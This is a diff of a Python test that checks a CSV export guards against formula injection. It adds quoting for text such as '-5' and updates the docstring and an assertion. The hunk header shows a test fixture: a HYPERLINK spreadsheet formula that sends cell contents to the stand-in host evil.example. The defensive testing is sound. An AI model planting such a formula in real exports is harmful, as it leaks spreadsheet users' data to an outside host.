@@ -273,8 +273,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 
 
 def test_csv_guards_text_that_a_spreadsheet_would_run(session):
-    """CSV injection: text starting with = + - @ gets a leading quote; numbers, negative
-    integers and times do not; JSON is left alone."""
+    """CSV injection: text starting with = + - @ gets a leading quote, even text that looks
+    like a number ("-5"); numbers, negative integers and times do not; JSON is left alone."""
     from db.models import User
 
     session.add(
@@ -294,7 +294,7 @@ def test_csv_guards_text_that_a_spreadsheet_would_run(session):
     export_statement(session, view, out, "csv")
     first, second = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
     assert first[:4] == ["'" + FORMULA, "'@Home", "'+41 79 1", "-13"]
-    assert second[:4] == ["-5", "'t Hooft", "", "-13"]
+    assert second[:4] == ["'-5", "'t Hooft", "", "-13"]
     assert first[4][:1].isdigit()
     out = io.StringIO()
     export_statement(session, view, out, "json")
